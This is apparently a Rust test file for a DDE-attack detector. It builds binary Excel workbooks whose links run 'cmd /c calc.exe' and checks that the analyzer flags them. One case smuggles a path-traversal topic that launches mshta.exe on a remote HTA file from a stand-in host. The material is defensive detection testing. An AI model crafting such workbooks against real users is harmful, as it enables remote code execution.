//! Binary workbooks: §2.6.

use ddetect::{Carrier, Confidence, GapKind, Kind, Verdict};

use crate::support::excel::payload::Link;
use crate::support::excel::tokens::Token;
use crate::support::excel::xlsb::{
    BEGIN_SUP_BOOK, END_SUP_BOOK, Place, ROW_HEADER, Xlsb, record, wide, worked_link_part,
};
use crate::support::package::rels;
use crate::support::{analyze, dde, techniques, triples};
use crate::{image, is_malicious, only, stands_at, triple};

const PART: &str = "xl/externalLinks/externalLink1.bin";

fn book() -> Xlsb {
    Xlsb::new(
        &[Link::new("cmd", "/c calc.exe", &["_xlbgnm.A1"])],
        &[Token::Link(0, 1)],
    )
}

/// The bytes of §2.3: the link part, and the cell as Excel wrote it in row 4.
#[test]
fn case_1_as_excel_writes_it() {
    let cell = b"\x0b\x1a\x01\0\0\0\0\0\0\0\x17\0\0\x07\0\0\0\x59\0\0\x01\0\0\0\0\0\0\0";
    let row = [&3_u32.to_le_bytes()[..], &[0; 13]].concat();
    let sheet = [
        record(129, &[]),
        record(145, &[]),
        record(ROW_HEADER, &row),
        cell.to_vec(),
        record(146, &[]),
        record(130, &[]),
    ]
    .concat();
    assert_eq!(worked_link_part().len(), 134);
    let bytes = book()
        .package()
        .part(PART, worked_link_part())
        .part("xl/worksheets/sheet1.bin", sheet)
        .build();
    let report = analyze(&bytes);
    is_malicious(&report, ("cmd", "/c calc.exe", "A1"));
    let finding = only(&report);
    assert_eq!(finding.kind, Kind::DdeAuto);
    assert_eq!(image(finding), Some("cmd.exe"));
    stands_at(finding, "Sheet1!B4");
}

#[test]
fn case_2_an_ole_link_is_not_dde() {
    let target = "http://example.invalid/a.doc";
    let head = [
        2_u16.to_le_bytes().to_vec(),
        wide("rId1"),
        wide("Word.Document.8"),
    ]
    .concat();
    let part = [record(BEGIN_SUP_BOOK, &head), record(END_SUP_BOOK, &[])].concat();
    let bytes = book()
        .place(Place::Nowhere)
        .package()
        .part(PART, part)
        .part(
            "xl/externalLinks/_rels/externalLink1.bin.rels",
            rels(&[("rId1", "oleObject", target, true)]),
        )
        .build();
    let report = analyze(&bytes);
    assert!(dde(&report).is_empty(), "{report:#?}");
    let links: Vec<_> = report
        .findings()
        .iter()
        .filter(|finding| finding.carrier == Carrier::OleLink)
        .collect();
    assert_eq!(links.len(), 1, "{report:#?}");
    assert_eq!(links[0].target.as_deref(), Some(target));
    assert!(links[0].raw.contains("Word.Document.8"), "{}", links[0].raw);
}

#[test]
fn case_3_a_size_past_the_end() {
    let mut part = worked_link_part();
    part.extend(b"\xc1\x04\xff\xff\xff\x7f0123456789");
    let report = analyze(&book().package().part(PART, part).build());
    assert_eq!(triples(&report), [triple("cmd", "/c calc.exe", "A1")]);
    assert_eq!(report.verdict(), Verdict::Malicious);
    let kinds: Vec<_> = report.gaps().iter().map(|gap| gap.kind).collect();
    assert_eq!(kinds, [GapKind::Damaged], "{report:#?}");
}

#[test]
fn case_4_traversal() {
    let topic = r"\..\..\..\Windows\System32\mshta.exe http://x/a.hta";
    let bytes = Xlsb::new(
        &[Link::new("MSEXCEL", topic, &["A1"])],
        &[Token::Link(0, 1)],
    )
    .build();
    let report = analyze(&bytes);
    is_malicious(&report, ("MSEXCEL", topic, "A1"));
    assert_eq!(image(only(&report)), Some("mshta.exe"));
    assert!(techniques(only(&report)).contains(&"path-traversal"));
}

#[test]
fn case_5_in_a_future_record() {
    let mut book = book();
    book.wrap = Some((35, 36));
    is_malicious(&analyze(&book.build()), ("cmd", "/c calc.exe", "A1"));
}

/// §2.2: a kind that is not known is read as DDE, with little confidence.
#[test]
fn another_kind_of_link() {
    let mut book = book();
    book.sbt = 9;
    let report = analyze(&book.build());
    assert_eq!(triples(&report), [triple("cmd", "/c calc.exe", "A1")]);
    assert_eq!(only(&report).confidence, Confidence::Low);
    assert!(report.verdict() >= Verdict::Suspicious, "{report:#?}");
}
